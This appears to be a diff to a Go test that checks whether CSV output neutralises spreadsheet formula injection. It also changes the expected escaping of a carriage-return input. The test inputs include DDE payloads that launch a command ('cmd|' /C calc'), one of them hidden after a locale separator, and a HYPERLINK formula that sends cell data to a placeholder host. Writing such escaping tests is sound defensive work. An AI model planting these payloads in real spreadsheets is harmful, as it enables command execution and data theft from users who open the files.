@@ -28,7 +28,7 @@ func TestAppendCSV(t *testing.T) {
 		// text with an apostrophe.
 		"=SUM(A1)": `"'=SUM(A1)"`, `=HYPERLINK("http://x/?"&A1)`: `"'=HYPERLINK(""http://x/?""&A1)"`,
 		"-2+3+cmd|' /C calc'!A0": `"'-2+3+cmd|' /C calc'!A0"`, "+1": `"'+1"`, "@SUM(1)": `"'@SUM(1)"`,
-		"\t=1+2": "\"'\t=1+2\"", "\r=1+2": "\"'\r=1+2\"", "a=1": "a=1",
+		"\t=1+2": "\"'\t=1+2\"", "\r=1+2": "\"'\r'=1+2\"", "a=1": "a=1",
 		// For a reader that splits at ";" (Excel in ru and uz locales)
 		// a cell starts after each ";".
 		"a;b": `"a;b"`, "Ministry;=cmd|' /C calc'!A0;": `"Ministry;'=cmd|' /C calc'!A0;"`, "x;@SUM(1);-1": `"x;'@SUM(1);'-1"`,
